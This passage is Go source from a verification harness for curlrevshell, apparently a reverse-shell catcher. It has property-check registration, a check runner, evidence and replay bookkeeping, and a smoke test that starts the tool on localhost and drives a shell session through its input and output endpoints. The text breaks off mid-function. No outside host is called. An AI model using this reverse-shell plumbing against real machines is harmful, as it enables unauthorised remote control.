package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c17"

func init() {
	registry["C17"] = prop{level: c17.Level, run: c17.Run, racePkgs: []string{"lib/shellfuncsfile"}}
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c18"

func init() {
	registry["C18"] = prop{level: c18.Level, run: c18.Run, racePkgs: []string{"lib/shellfuncsfile"}}
}

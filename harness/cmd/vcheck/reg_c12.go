package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c12"

func init() {
	registry["C12"] = prop{level: c12.Level, run: c12.Run, racePkgs: []string{"internal/hsrv", "internal/iobroker", "curlrevshell", "lib/opshell"}}
}

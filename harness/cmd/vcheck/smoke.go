package main

import (
	"fmt"
	"os"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/ptyx"
)

func init() {
	children["smoke"] = func(args []string) int {
		dir, _ := os.MkdirTemp("/verif/.work", "smoke")
		defer os.RemoveAll(dir)
		bin, err := crs.Build(dir, "")
		if err != nil {
			fmt.Println(err)
			return 1
		}
		s, err := crs.Start(bin, dir+"/home", "-listen-address", "127.0.0.1:0")
		if err != nil {
			fmt.Println(err)
			return 1
		}
		defer s.Close()
		fmt.Println("addr", s.Addr)
		in, err := crs.OpenIn(s.Addr, "/i/abc")
		fmt.Println("in", err)
		out, err := crs.OpenOut(s.Addr, "/o/abc")
		fmt.Println("out", err)
		_, ok := s.Wait(`Shell is ready`, 0, 10*time.Second)
		fmt.Println("ready", ok)
		s.Line("echo hello")
		l, err := in.ReadLine(10 * time.Second)
		fmt.Printf("line %q %v\n", l, err)
		out.Send("TOKEN-42\n")
		_, ok = s.Wait(`TOKEN-42`, 0, 10*time.Second)
		fmt.Println("token", ok)
		out.End()
		_, ok = s.Wait(`Shell is gone`, 0, 10*time.Second)
		fmt.Println("gone", ok)
		st, sig, ok := s.Quit()
		fmt.Println("exit", st, sig, ok)
		a, _ := s.P.After()
		fmt.Println("mode restored", ptyx.SameMode(s.P.Before, a))
		fmt.Printf("%q\n", s.P.Clean())
		return 0
	}
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c07"

func init() {
	registry["C07"] = prop{level: c07.Level, run: c07.Run, racePkgs: []string{"internal/hsrv", "internal/iobroker"}}
	children["c07carry"] = c07.ChildCarry
}

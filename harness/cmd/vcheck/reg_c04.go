package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c04"

func init() {
	registry["C04"] = prop{level: c04.Level, run: c04.Run, racePkgs: []string{"internal/iobroker", "internal/hsrv"}}
	children["c04serial"] = c04.ChildSerial
}

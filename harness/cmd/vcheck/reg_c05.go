package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c05"

func init() {
	registry["C05"] = prop{level: c05.Level, run: c05.Run, racePkgs: []string{"internal/hsrv", "lib/sstls"}}
}

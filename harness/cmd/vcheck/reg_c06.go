package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c06"

func init() {
	registry["C06"] = prop{level: c06.Level, run: c06.Run, racePkgs: []string{"internal/iobroker", "internal/hsrv"}}
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c19"

func init() {
	registry["C19"] = prop{level: c19.Level, run: c19.Run, racePkgs: []string{"lib/opshell", "curlrevshell"}}
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c01"

func init() {
	registry["C01"] = prop{level: c01.Level, run: c01.Run, racePkgs: []string{"internal/iobroker", "internal/hsrv"}}
}

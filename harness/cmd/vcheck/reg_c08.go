package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c08"

func init() {
	registry["C08"] = prop{level: c08.Level, run: c08.Run, racePkgs: []string{"lib/sstls"}}
	children["c08perm"] = c08.ChildPerm
	children["c08die"] = c08.ChildDie
	children["c08limit"] = c08.ChildLimit
	children["c08foreign"] = c08.ChildForeign
	children["c08listen"] = c08.ChildListen
}

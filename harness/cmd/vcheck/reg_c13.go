package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c13"

func init() {
	registry["C13"] = prop{level: c13.Level, run: c13.Run, racePkgs: []string{"lib/simpleshell"}}
	children["c13"] = c13.Child
}

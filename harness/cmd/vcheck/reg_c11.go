package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c11"

func init() {
	registry["C11"] = prop{level: c11.Level, run: c11.Run, racePkgs: []string{"internal/iobroker", "internal/hsrv", "curlrevshell"}}
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c20"

func init() {
	registry["C20"] = prop{level: c20.Level, run: c20.Run, racePkgs: []string{"curlrevshell", "lib/opshell", "internal/hsrv"}}
	children["c20bind"] = c20.ChildBind
	children["c20tty"] = c20.ChildTTY
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c15"

func init() {
	registry["C15"] = prop{level: c15.Level, run: c15.Run, racePkgs: []string{"lib/uu"}}
	children["c15groups"] = c15.ChildGroups
	children["c15decoder"] = c15.ChildDecoder
}

// vcheck runs one property check: vcheck <Cxx> quick|thorough, or
// vcheck <Cxx> --replay <file>.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

type prop struct {
	level string
	run   func(r *mon.Run)
	// packages (import-path fragments under the repo module) whose race
	// reports count as violations of this property; empty = any repo frame.
	racePkgs []string
}

var registry = map[string]prop{}

func main() {
	if len(os.Args) >= 2 && os.Args[1] == "--list" {
		ids := make([]string, 0, len(registry))
		for id := range registry {
			ids = append(ids, id)
		}
		sort.Strings(ids)
		fmt.Println(strings.Join(ids, " "))
		return
	}
	if len(os.Args) >= 2 && strings.HasPrefix(os.Args[1], "--child=") {
		os.Exit(runChild(strings.TrimPrefix(os.Args[1], "--child="), os.Args[2:]))
	}
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: vcheck <Cxx> quick|thorough | vcheck <Cxx> --replay <file>")
		os.Exit(2)
	}
	id := os.Args[1]
	p, ok := registry[id]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown property %s\n", id)
		os.Exit(2)
	}
	tier := os.Args[2]
	var r *mon.Run
	if tier == "--replay" {
		if len(os.Args) < 4 {
			fmt.Fprintln(os.Stderr, "--replay needs a file")
			os.Exit(2)
		}
		b, err := os.ReadFile(os.Args[3])
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		var rep struct {
			Tier   string `json:"tier"`
			Seed   int64  `json:"seed"`
			Engine string `json:"engine"`
			Index  int    `json:"index"`
		}
		if err := json.Unmarshal(b, &rep); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		os.Setenv("VERIF_SEED", fmt.Sprint(rep.Seed))
		r = mon.NewRun(id, rep.Tier, p.level)
		r.SetOnly(rep.Engine, rep.Index)
	} else {
		if t := os.Getenv("VERIF_TIER"); t != "" && tier != "quick" && tier != "thorough" {
			tier = t
		}
		if tier != "quick" && tier != "thorough" {
			fmt.Fprintf(os.Stderr, "unknown tier %s\n", tier)
			os.Exit(2)
		}
		r = mon.NewRun(id, tier, p.level)
	}
	wd := 40 * time.Minute
	if r.Thorough() {
		wd = 3 * time.Hour
	}
	mon.Watchdog(wd)
	p.run(r)

	// Race reports of this process and of children that logged to the same prefix.
	if pre := os.Getenv("VERIF_RACELOG"); pre != "" {
		repo, harness := mon.ParseRaceLogs(pre)
		r.Count("race_reports_repo", int64(len(repo)))
		r.Count("race_reports_harness_only", int64(len(harness)))
		for _, rr := range repo {
			counts := len(p.racePkgs) == 0
			for _, pk := range p.racePkgs {
				for _, f := range rr.Frames {
					if strings.Contains(f, pk) {
						counts = true
					}
				}
			}
			if counts {
				r.Violate("racelog", 0, "race:"+rr.Sig, "data race reported in code implementing the property: "+rr.Sig, rr)
			} else {
				r.Logf("race report outside this property's packages (not counted): %s", rr.Sig)
			}
		}
		for _, rr := range harness {
			r.Inconclusive("race in harness code only: " + rr.Sig)
			fmt.Fprintf(os.Stderr, "HARNESS RACE:\n%s\n", rr.Text)
		}
	}
	os.Exit(r.Finish())
}

// children: sub-commands run in separate processes (so that a fatal error in
// the code under test leaves a witness instead of killing every monitor).
var children = map[string]func(args []string) int{}

func runChild(name string, args []string) int {
	f, ok := children[name]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown child %s\n", name)
		return 2
	}
	return f(args)
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c16"

func init() {
	registry["C16"] = prop{level: c16.Level, run: c16.Run, racePkgs: []string{"lib/shellfuncsfile", "lib/uu"}}
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c09"

func init() {
	registry["C09"] = prop{level: c09.Level, run: c09.Run, racePkgs: []string{"internal/hsrv"}}
}

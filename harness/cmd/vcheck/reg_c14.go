package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c14"

func init() {
	registry["C14"] = prop{level: c14.Level, run: c14.Run, racePkgs: []string{"lib/simpleshell"}}
}

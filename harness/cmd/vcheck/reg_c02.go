package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c02"

func init() {
	registry["C02"] = prop{level: c02.Level, run: c02.Run, racePkgs: []string{"internal/iobroker", "internal/hsrv", "lib/opshell"}}
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c10"

func init() {
	registry["C10"] = prop{level: c10.Level, run: c10.Run, racePkgs: []string{"internal/hsrv", "internal/iobroker"}}
}

package main

import "github.com/magisterquis/curlrevshell/verifharness/props/c03"

func init() {
	registry["C03"] = prop{level: c03.Level, run: c03.Run, racePkgs: []string{"internal/iobroker", "lib/opshell"}}
}

package mon

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"sync/atomic"
	"syscall"
	"time"
)

type childDump struct {
	Evals        int64            `json:"evals"`
	Distinct     []uint64         `json:"distinct"`
	DistinctBulk int64            `json:"distinct_bulk"`
	Samples      []any            `json:"samples"`
	Counters     map[string]int64 `json:"counters"`
	Violations   []Violation      `json:"violations"`
	Inconcl      []string         `json:"inconclusive"`
}

// DumpChild writes what a child process observed to path and removes its
// work directory; the parent merges it with MergeChild.
func (r *Run) DumpChild(path string) error {
	defer os.RemoveAll(r.Work)
	r.mu.Lock()
	defer r.mu.Unlock()
	d := childDump{Evals: r.evals.Load(), DistinctBulk: r.distinctBulk, Samples: r.samples, Counters: r.counters, Violations: r.violations, Inconcl: r.inconcl}
	for h := range r.distinct {
		d.Distinct = append(d.Distinct, h)
	}
	b, err := json.Marshal(d)
	if err != nil {
		return err
	}
	return os.WriteFile(path, b, 0o644)
}

// MergeChild folds a child's dump into r.
func (r *Run) MergeChild(path string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	var d childDump
	if err := json.Unmarshal(b, &d); err != nil {
		return err
	}
	r.evals.Add(d.Evals)
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, h := range d.Distinct {
		r.distinct[h] = struct{}{}
	}
	r.distinctBulk += d.DistinctBulk
	for _, s := range d.Samples {
		if len(r.samples) < 12 {
			r.samples = append(r.samples, s)
		}
	}
	for k, v := range d.Counters {
		r.counters[k] += v
	}
	r.violations = append(r.violations, d.Violations...)
	r.inconcl = append(r.inconcl, d.Inconcl...)
	return nil
}

// ProcResult is the outcome of a child process.
type ProcResult struct {
	Status   int // exit status, or -1 if killed by a signal / watchdog
	Signal   string
	TimedOut bool
	Stdout   []byte
	Stderr   []byte
	Wall     time.Duration
}

// Proc describes a child process to run with a watchdog; the whole process
// group is killed when the watchdog fires.
type Proc struct {
	Path    string
	Args    []string
	Env     []string // nil = inherit
	Dir     string
	Stdin   []byte
	Timeout time.Duration
	Uid     int // 0 = unchanged
	Setsid  bool
}

// Run executes the process.
func (p Proc) Run() ProcResult {
	cmd := exec.Command(p.Path, p.Args...)
	cmd.Env = p.Env
	cmd.Dir = p.Dir
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	if p.Stdin != nil {
		cmd.Stdin = bytes.NewReader(p.Stdin)
	}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: !p.Setsid, Setsid: p.Setsid}
	if p.Uid != 0 {
		cmd.SysProcAttr.Credential = &syscall.Credential{Uid: uint32(p.Uid), Gid: uint32(p.Uid)}
	}
	t0 := time.Now()
	if err := cmd.Start(); err != nil {
		return ProcResult{Status: -1, Stderr: []byte(err.Error())}
	}
	to := p.Timeout
	if to == 0 {
		to = 60 * time.Second
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	var res ProcResult
	select {
	case <-done:
	case <-time.After(to):
		res.TimedOut = true
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		cmd.Process.Kill()
		<-done
	}
	res.Wall = time.Since(t0)
	res.Stdout, res.Stderr = so.Bytes(), se.Bytes()
	if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok {
		if ws.Signaled() {
			res.Status = -1
			res.Signal = ws.Signal().String()
		} else {
			res.Status = ws.ExitStatus()
		}
	} else {
		res.Status = cmd.ProcessState.ExitCode()
	}
	return res
}

var childSeq atomic.Int64

// RunChild runs this binary's (or bin's) child sub-command and merges its dump.
// A child that dies without a dump is reported through the returned result.
func (r *Run) RunChild(bin, name string, timeout time.Duration, args ...string) (ProcResult, error) {
	if bin == "" {
		bin = os.Getenv("VCHECK_SELF")
		if bin == "" {
			bin, _ = os.Executable()
		}
	}
	// unique per call: children of one name are started in parallel, and the clock's
	// granularity is not fine enough to tell them apart
	dump := fmt.Sprintf("%s/child-%s-%d-%d.json", r.Work, name, time.Now().UnixNano(), childSeq.Add(1))
	a := append([]string{"--child=" + name, dump, r.Prop, r.Tier, fmt.Sprint(r.Seed)}, args...)
	res := Proc{Path: bin, Args: a, Timeout: timeout}.Run()
	if _, err := os.Stat(dump); err != nil {
		return res, fmt.Errorf("child %s left no dump (status %d signal %q timeout %v)", name, res.Status, res.Signal, res.TimedOut)
	}
	err := r.MergeChild(dump)
	os.Remove(dump)
	return res, err
}

// ChildRun builds the Run of a child from the standard child arguments
// (dump path, property, tier, seed) and returns it with the remaining args.
func ChildRun(args []string, level string) (*Run, string, []string) {
	if len(args) < 4 {
		fmt.Fprintln(os.Stderr, "child: missing arguments")
		os.Exit(2)
	}
	os.Setenv("VERIF_SEED", args[3])
	r := NewRun(args[1], args[2], level)
	return r, args[0], args[4:]
}

// Package mon holds the machinery shared by all property checks: the run
// context (seeded PRNG streams, evidence accumulation, verdict discipline,
// known-findings filter), and small helpers.
package mon

import (
	"bufio"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// VerifDir is where MANIFEST.json, evidence/ and replays/ live.
var VerifDir = func() string {
	if d := os.Getenv("VERIF_DIR"); d != "" {
		return d
	}
	return "/verif"
}()

// RepoDir is the repository under test.
var RepoDir = func() string {
	if d := os.Getenv("VERIF_REPO"); d != "" {
		return d
	}
	return "/repo"
}()

// Violation is one observed refutation of the property.
type Violation struct {
	Key     string `json:"key"`  // stable identity of the failing input / history / call site
	What    string `json:"what"` // one line
	Engine  string `json:"engine,omitempty"`
	Index   int    `json:"index"`
	Witness any    `json:"witness,omitempty"`
}

// Run is the context of one check run.
type Run struct {
	Prop  string
	Tier  string // quick | thorough
	Seed  int64
	Level string
	Rule  string
	Work  string // scratch directory, removed by Finish

	Assumptions []string

	start time.Time
	mu    sync.Mutex

	evals        atomic.Int64
	distinct     map[uint64]struct{}
	distinctBulk int64
	samples      []any
	sampleKinds  map[string]int
	counters     map[string]int64
	floors       map[string]int64
	extra        map[string]any
	violations   []Violation
	inconcl      []string
	exhaustive   *bool

	only      string // engine:index filter for replays
	onlyIndex int
	replaying bool
}

// NewRun sets up a run from the environment (VERIF_SEED, VERIF_ONLY).
func NewRun(prop, tier, level string) *Run {
	seed := int64(1)
	if s := os.Getenv("VERIF_SEED"); s != "" {
		if v, err := strconv.ParseInt(s, 10, 64); err == nil {
			seed = v
		}
	}
	r := &Run{
		Prop: prop, Tier: tier, Seed: seed, Level: level,
		start:       time.Now(),
		distinct:    map[uint64]struct{}{},
		sampleKinds: map[string]int{},
		counters:    map[string]int64{},
		floors:      map[string]int64{},
		extra:       map[string]any{},
		onlyIndex:   -1,
	}
	r.Work = filepath.Join(VerifDir, ".work", fmt.Sprintf("%s.%d", prop, os.Getpid()))
	os.RemoveAll(r.Work)
	if err := os.MkdirAll(r.Work, 0o755); err != nil {
		fmt.Fprintf(os.Stderr, "cannot create work dir: %v\n", err)
		os.Exit(2)
	}
	return r
}

// Thorough reports whether this is the thorough tier.
func (r *Run) Thorough() bool { return r.Tier == "thorough" }

// N picks a case count by tier.
func (r *Run) N(quick, thorough int) int {
	if r.Thorough() {
		return thorough
	}
	return quick
}

// SetOnly restricts the run to one case (replay).
func (r *Run) SetOnly(engine string, index int) {
	r.only, r.onlyIndex, r.replaying = engine, index, true
}

// Replaying reports whether this run replays a single case.
func (r *Run) Replaying() bool { return r.replaying }

// Want reports whether case (engine,index) is to be run.
func (r *Run) Want(engine string, index int) bool {
	if !r.replaying {
		return true
	}
	return r.only == engine && (r.onlyIndex < 0 || r.onlyIndex == index)
}

// WantEngine reports whether any case of the engine is wanted.
func (r *Run) WantEngine(engine string) bool {
	return !r.replaying || r.only == engine
}

// Rng returns the deterministic PRNG of case (engine,index).
func (r *Run) Rng(engine string, index int) *rand.Rand {
	h := fnv.New64a()
	h.Write([]byte(r.Prop))
	h.Write([]byte{0})
	h.Write([]byte(engine))
	return rand.New(rand.NewPCG(uint64(r.Seed), h.Sum64()+uint64(index)*0x9e3779b97f4a7c15))
}

// Eval counts executed cases.
func (r *Run) Eval(n int) { r.evals.Add(int64(n)) }

// Distinct records the signature of a non-trivial case.
func (r *Run) Distinct(sig string) {
	h := fnv.New64a()
	h.Write([]byte(sig))
	v := h.Sum64()
	r.mu.Lock()
	r.distinct[v] = struct{}{}
	r.mu.Unlock()
}

// DistinctBulk adds n cases that are distinct and non-trivial by
// construction (complete enumerations).
func (r *Run) DistinctBulk(n int64) {
	r.mu.Lock()
	r.distinctBulk += n
	r.mu.Unlock()
}

// Sample keeps up to three written-out cases per kind.
func (r *Run) Sample(kind string, v any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.sampleKinds[kind] >= 3 {
		return
	}
	r.sampleKinds[kind]++
	r.samples = append(r.samples, map[string]any{"kind": kind, "case": v})
}

// Count adds to a named observation counter (reported in the evidence).
func (r *Run) Count(name string, n int64) {
	r.mu.Lock()
	r.counters[name] += n
	r.mu.Unlock()
}

// Counter reads a counter.
func (r *Run) Counter(name string) int64 {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.counters[name]
}

// Floor demands that a counter reach min by the end of the run, otherwise the
// run is inconclusive (a monitor that observed nothing never passes).
func (r *Run) Floor(name string, min int64) {
	r.mu.Lock()
	r.floors[name] = min
	r.mu.Unlock()
}

// Extra stores an additional coverage key.
func (r *Run) Extra(k string, v any) {
	r.mu.Lock()
	r.extra[k] = v
	r.mu.Unlock()
}

// Exhaustive marks the run as a complete enumeration of a finite space.
func (r *Run) Exhaustive(b bool) { r.exhaustive = &b }

// Violate records a violation.
func (r *Run) Violate(engine string, index int, key, what string, witness any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.violations = append(r.violations, Violation{Key: key, What: what, Engine: engine, Index: index, Witness: witness})
}

// Violations returns the number recorded so far.
func (r *Run) Violations() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.violations)
}

// Inconclusive records a case that could be decided neither way.
func (r *Run) Inconclusive(what string) {
	r.mu.Lock()
	r.inconcl = append(r.inconcl, what)
	r.mu.Unlock()
}

// Logf prints progress to stderr.
func (r *Run) Logf(format string, a ...any) {
	fmt.Fprintf(os.Stderr, "[%s %6.1fs] %s\n", r.Prop, time.Since(r.start).Seconds(), fmt.Sprintf(format, a...))
}

type knownFinding struct {
	prop, key, text string
}

func loadKnown() ([]knownFinding, error) {
	f, err := os.Open(filepath.Join(VerifDir, "known-findings.txt"))
	if err != nil {
		if os.IsNotExist(err) {
			return nil, nil
		}
		return nil, err
	}
	defer f.Close()
	var out []knownFinding
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		l := strings.TrimSpace(sc.Text())
		if !strings.HasPrefix(l, "finding:") {
			continue // "fixed:" lines and comments suppress nothing
		}
		l = strings.TrimSpace(strings.TrimPrefix(l, "finding:"))
		fs := strings.Fields(l)
		var kf knownFinding
		rest := []string{}
		for _, w := range fs {
			switch {
			case strings.HasPrefix(w, "property=") && kf.prop == "":
				kf.prop = strings.TrimPrefix(w, "property=")
			case strings.HasPrefix(w, "key=") && kf.key == "":
				kf.key = strings.TrimPrefix(w, "key=")
			default:
				rest = append(rest, w)
			}
		}
		kf.text = strings.Join(rest, " ")
		if kf.prop != "" && kf.key != "" {
			out = append(out, kf)
		}
	}
	return out, sc.Err()
}

// Finish writes the evidence file, reports, cleans up and returns the exit
// status (0 held, 1 violation, 2 inconclusive/broken run).
func (r *Run) Finish() int {
	defer os.RemoveAll(r.Work)
	r.mu.Lock()
	defer r.mu.Unlock()

	known, err := loadKnown()
	if err != nil {
		fmt.Fprintf(os.Stderr, "reading known-findings.txt: %v\n", err)
		return 2
	}
	isKnown := func(key string) (knownFinding, bool) {
		for _, k := range known {
			if k.prop == r.Prop && k.key == key {
				return k, true
			}
		}
		return knownFinding{}, false
	}

	// Split violations.
	var fresh []Violation
	knownSeen := map[string]int{}
	for _, v := range r.violations {
		if _, ok := isKnown(v.Key); ok {
			knownSeen[v.Key]++
		} else {
			fresh = append(fresh, v)
		}
	}

	// Floors.
	var floorFail []string
	if !r.replaying {
		names := make([]string, 0, len(r.floors))
		for n := range r.floors {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, n := range names {
			if r.counters[n] < r.floors[n] {
				floorFail = append(floorFail, fmt.Sprintf("monitor counter %q observed %d < floor %d", n, r.counters[n], r.floors[n]))
			}
		}
	}

	wall := time.Since(r.start).Seconds()
	distinct := int64(len(r.distinct)) + r.distinctBulk
	cov := map[string]any{
		"evaluations":         r.evals.Load(),
		"distinct_nontrivial": distinct,
		"rule":                r.Rule,
		"samples":             r.samples,
		"observed":            r.counters,
		"inconclusive_cases":  len(r.inconcl),
	}
	if len(r.inconcl) > 0 {
		n := len(r.inconcl)
		if n > 10 {
			n = 10
		}
		cov["inconclusive_notes"] = r.inconcl[:n]
	}
	if r.exhaustive != nil {
		cov["exhaustive"] = *r.exhaustive
	}
	if len(knownSeen) > 0 {
		cov["known_findings_reproduced"] = knownSeen
	}
	for k, v := range r.extra {
		cov[k] = v
	}
	if r.samples == nil {
		cov["samples"] = []any{}
	}
	ev := map[string]any{
		"property_id": r.Prop,
		"tier":        r.Tier,
		"seed":        r.Seed,
		"level":       r.Level,
		"coverage":    cov,
		"assumptions": r.Assumptions,
		"wall_s":      float64(int(wall*100)) / 100,
		"violations":  len(fresh),
		"go_version":  runtime.Version(),
	}
	if !r.replaying {
		os.MkdirAll(filepath.Join(VerifDir, "evidence"), 0o755)
		b, _ := json.MarshalIndent(ev, "", " ")
		tmp := filepath.Join(VerifDir, "evidence", "."+r.Prop+".json.tmp")
		if err := os.WriteFile(tmp, append(b, '\n'), 0o644); err == nil {
			os.Rename(tmp, filepath.Join(VerifDir, "evidence", r.Prop+".json"))
		} else {
			fmt.Fprintf(os.Stderr, "writing evidence: %v\n", err)
			return 2
		}
	}

	// Report.
	keys := make([]string, 0, len(knownSeen))
	for k := range knownSeen {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		kf, _ := isKnown(k)
		fmt.Printf("KNOWN-FINDING: property=%s key=%s %s (seen %d times this run)\n", r.Prop, k, kf.text, knownSeen[k])
	}
	fmt.Printf("SUMMARY property=%s tier=%s seed=%d evaluations=%d distinct_nontrivial=%d violations=%d known=%d inconclusive=%d wall_s=%.1f\n",
		r.Prop, r.Tier, r.Seed, r.evals.Load(), distinct, len(fresh), len(knownSeen), len(r.inconcl), wall)
	if len(fresh) > 0 {
		os.MkdirAll(filepath.Join(VerifDir, "replays"), 0o755)
		seenKey := map[string]bool{}
		printed := 0
		for i, v := range fresh {
			if seenKey[v.Key] || printed >= 8 {
				continue
			}
			seenKey[v.Key] = true
			printed++
			path := filepath.Join(VerifDir, "replays", fmt.Sprintf("%s-seed%d-%d.json", r.Prop, r.Seed, i))
			rep := map[string]any{
				"property": r.Prop, "tier": r.Tier, "seed": r.Seed,
				"engine": v.Engine, "index": v.Index, "key": v.Key, "what": v.What, "witness": v.Witness,
			}
			b, _ := json.MarshalIndent(rep, "", " ")
			os.WriteFile(path, append(b, '\n'), 0o644)
			fmt.Printf("VIOLATION property=%s replay=%s\n", r.Prop, path)
			fmt.Printf("  what: %s\n  key: %s\n", v.What, v.Key)
		}
		return 1
	}
	if len(floorFail) > 0 {
		for _, f := range floorFail {
			fmt.Printf("INCONCLUSIVE property=%s %s\n", r.Prop, f)
		}
		return 2
	}
	return 0
}

// Parallel runs f(i) for i in [0,n) on w workers.
func Parallel(n, w int, f func(i int)) {
	if w < 1 {
		w = 1
	}
	if w > n {
		w = n
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for k := 0; k < w; k++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= n {
					return
				}
				f(i)
			}
		}()
	}
	wg.Wait()
}

// Watchdog kills the process with a goroutine dump if the whole run exceeds
// d; that is an inconclusive (broken) run, never a violation.
func Watchdog(d time.Duration) {
	go func() {
		time.Sleep(d)
		buf := make([]byte, 1<<22)
		n := runtime.Stack(buf, true)
		fmt.Fprintf(os.Stderr, "WATCHDOG: run exceeded %s; goroutine dump follows\n%s\n", d, buf[:n])
		fmt.Printf("INCONCLUSIVE run exceeded the global watchdog of %s\n", d)
		os.Exit(2)
	}()
}

package bk

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"math/rand/v2"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

// Bound is the bounded-progress limit for in-process steps that normally
// take microseconds to milliseconds.
const Bound = 10 * time.Second

type attKey struct{}

// doStuckSeen: a world of this process has already shown that Do does not
// finish at shutdown.
var doStuckSeen atomic.Bool

func init() {
	hook := func(ctx context.Context, point, dir, key string) {
		a, ok := ctx.Value(attKey{}).(*Attempt)
		if !ok || a == nil {
			return
		}
		a.hook(point, dir, key)
	}
	iobroker.VerifPoint.Store(&hook)
}

// World is one broker under observation.
type World struct {
	B   *iobroker.Broker
	Ich chan string
	Och chan opshell.CLine
	Log *Log

	doCancel context.CancelFunc
	DoDone   chan struct{}
	baseCtx  context.Context

	mu       sync.Mutex
	Attempts []*Attempt
	Lst      [2]chan iobroker.Event
	slowLst  []chan iobroker.Event // listeners added by AddSlowListener (event index 2, 3, …)

	opPause  chan struct{} // non-nil while the operator's terminal is stalled
	opPauseM sync.Mutex

	stress atomic.Pointer[rand.Rand]
	stMu   sync.Mutex

	consumerDone chan struct{}
	consumerQuit chan struct{}

	// DoStuck is set by Close when Do did not return although every
	// Connect call had returned.
	DoStuck bool

	// JSON makes attempts log through a real slog JSON handler; every
	// Write of the handler is recorded as a "json" event.
	JSON bool
}

type jsonSink struct{ w *World }

func (j jsonSink) Write(p []byte) (int, error) {
	j.w.Log.Add(Event{Kind: "json", Att: -1, S: string(p)})
	return len(p), nil
}

// NewWorld creates a broker with an operator channel of the given capacity
// and starts Do, the operator consumer and two event listeners.
func NewWorld(ochCap, ichCap int) (*World, error) {
	w := &World{
		Ich:    make(chan string, ichCap),
		Och:    make(chan opshell.CLine, ochCap),
		Log:    NewLog(),
		DoDone: make(chan struct{}),
	}
	b, err := iobroker.New(w.Ich, w.Och)
	if err != nil {
		return nil, err
	}
	w.B = b
	for i := range w.Lst {
		w.Lst[i] = make(chan iobroker.Event, iobroker.EVChanLen)
		b.AddEventListener(w.Lst[i])
		go func(i int) {
			for ev := range w.Lst[i] {
				w.Log.Add(Event{Kind: "ev", Att: -1, N: i, S: string(ev.Type)})
			}
		}(i)
	}
	ctx, cancel := context.WithCancel(context.Background())
	w.baseCtx = context.Background()
	w.doCancel = cancel
	go func() {
		err := b.Do(ctx)
		w.Log.Add(Event{Kind: "do-ret", Att: -1, S2: fmt.Sprint(err)})
		close(w.DoDone)
	}()
	w.consumerDone = make(chan struct{})
	w.consumerQuit = make(chan struct{})
	go w.consume()
	return w, nil
}

// AddSlowListener adds an event listener whose channel holds capacity events
// ("ch should be buffered" is all the API asks for) and whose owner looks at
// it only every delay; its events are logged with index 2, 3, ….  It returns
// the index.
func (w *World) AddSlowListener(capacity int, delay time.Duration) int {
	ch := make(chan iobroker.Event, capacity)
	w.mu.Lock()
	idx := len(w.Lst) + len(w.slowLst)
	w.slowLst = append(w.slowLst, ch)
	w.mu.Unlock()
	w.B.AddEventListener(ch)
	go func() {
		for {
			time.Sleep(delay)
			ev, ok := <-ch
			if !ok {
				return
			}
			w.Log.Add(Event{Kind: "ev", Att: -1, N: idx, S: string(ev.Type)})
		}
	}()
	return idx
}

// consume is the operator's terminal: it logs every CLine in arrival order.
func (w *World) consume() {
	defer close(w.consumerDone)
	for {
		var cl opshell.CLine
		select {
		case cl = <-w.Och:
		case <-w.consumerQuit:
			// drain what is already queued, then stop
			for {
				select {
				case cl = <-w.Och:
					w.Log.Add(Event{Kind: "op", Att: -1, S: cl.Line, Plain: cl.Plain, Color: int(cl.Color), S2: cl.Prompt})
					continue
				default:
				}
				return
			}
		}
